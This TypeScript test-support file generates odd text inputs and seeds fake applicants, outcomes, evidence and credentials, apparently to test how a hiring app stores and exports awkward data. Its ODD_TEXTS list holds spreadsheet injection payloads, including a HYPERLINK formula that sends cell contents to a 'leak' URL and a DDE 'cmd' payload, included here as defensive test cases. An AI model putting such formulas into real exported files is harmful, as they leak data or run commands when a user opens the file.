import fc from "fast-check";
import type { Actor } from "@/server/actor";
import { type MadeOpening, makeApplication, makeOpening } from "@/tests/support/opening-factory";
import { store } from "@/tests/support/store";

/** What spreadsheets execute, what tables of text stumble over, and scripts of every kind. */
export const ODD_TEXTS: readonly string[] = [
  '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"click")',
  "=1+1",
  "+44 7700 900461",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "'=already quoted",
  "''=twice",
  "'an apostrophe alone",
  "  \t=after blanks".trim(),
  "＝１＋１",
  '"Quotes" and , commas; semicolons | bars',
  "one line\r\nanother\n\na third after none",
  "Zoë Çelik · 陈晓明 · עברית · العربية · हिन्दी · 🎉👩🏽‍💻",
  "0012", // what looks like a number stays a text
  "1e5",
  "TRUE",
  "2026-11-01",
  "_x0041_ & <b>markup</b> &amp; ]]>",
  "a\u00a0space that does not break",
  "a\u2028line\u2029ends",
  "null",
];

// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are exactly what is left out
const UNSTORABLE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\p{Cs}]/gu;

/** A text that can be stored, of any script, at most so long. */
function storable(most: number): fc.Arbitrary<string> {
  return fc
    .oneof(fc.string({ unit: "binary", maxLength: most }), fc.constantFrom(...ODD_TEXTS))
    .map((text) => text.replace(UNSTORABLE, "").trim().slice(0, most).trim());
}

/** One person with odd texts wherever a text can stand. */
export const oddPerson = fc.record({
  line: storable(100),
  text: storable(1000),
  other: storable(300),
  number: fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e12, max: 1e12 }),
  share: fc.double({ noNaN: true, min: 0, max: 1 }),
});
export type OddPerson = typeof oddPerson extends fc.Arbitrary<infer Person> ? Person : never;

async function makeEvidence(actor: Actor, outcomeId: string, { line, text }: OddPerson): Promise<void> {
  const { organizationId, memberId, at } = actor;
  const checked = { checkStatus: "PARTLY" as const, checkNote: text, checkedById: memberId, checkedAt: at };
  const own = { organizationId, outcomeId, kind: "SPECIFIC_SELF_REPORT" as const, title: "Own statement" };
  await store().evidence.create({ data: { ...own, isStatement: true, ...checked } });
  const piece = { organizationId, outcomeId, title: line || "Evidence", description: text };
  const link = "https://records.example/a?b=1&c=%22x%22,2";
  await store().evidence.create({ data: { ...piece, kind: "ARTIFACT", link, ...checked } });
  await store().evidence.create({
    data: { ...piece, kind: "PEER_REFERENCE", title: `${piece.title} 2`.slice(0, 120) },
  });
}

async function makeOddPerson(
  actor: Actor,
  opening: MadeOpening,
  person: OddPerson,
  at: number,
): Promise<void> {
  const { line, text, other, number, share } = person;
  const { organizationId } = actor;
  const { id: applicationId, candidateId } = await makeApplication(opening, {
    name: line || `Nobody ${at}`,
    employer: line,
    school: line,
    ...(at % 2 === 0 ? { email: `odd-${at}@example.test` } : {}),
  });
  const links = ["https://one.example/a,b", "https://two.example/?q=%0A"].slice(0, at % 3);
  await store().candidate.update({
    where: { id: candidateId },
    data: { headline: line, phone: line || null, links },
  });
  if (at % 5 === 4)
    await store().application.update({ where: { id: applicationId }, data: { status: "WITHDRAWN" } });
  const measured = { metric: line || "Measure", baseline: number, after: share };
  const said = {
    aiPart: text,
    ownPart: text,
    limits: text,
    statement: [...other].length < 8 ? `Did ${at}: ${other}.......` : other,
  };
  const false_ = at % 4 === 3 ? { status: "REFUTED" as const, statusNote: text || "It was not so." } : {};
  const { id } = await store().outcome.create({
    data: {
      organizationId,
      applicationId,
      ...measured,
      ...said,
      ...false_,
      frequency: "WEEKLY",
      periodEnd: new Date("2026-03-31"),
    },
  });
  await makeEvidence(actor, id, person);
  const credential = {
    organizationId,
    applicationId,
    title: line || "Certificate",
    issuer: line,
    grade: share,
  };
  const found = at % 2 === 0 ? { genuineness: "DOCUMENT_SEEN" as const, genuinenessNote: text } : {};
  await store().credential.create({
    data: {
      ...credential,
      ...found,
      kind: "GRADED_PROJECT",
      issuedOn: new Date("2025-12-31"),
      servesObjective: "YES",
    },
  });
}

/** An opening whose people have odd texts wherever a text can stand. */
export async function makeOddOpening(actor: Actor, people: readonly OddPerson[]): Promise<MadeOpening> {
  const opening = await makeOpening(actor, { title: "Operations analyst" });
  for (const [at, person] of people.entries()) await makeOddPerson(actor, opening, person, at);
  return opening;
}
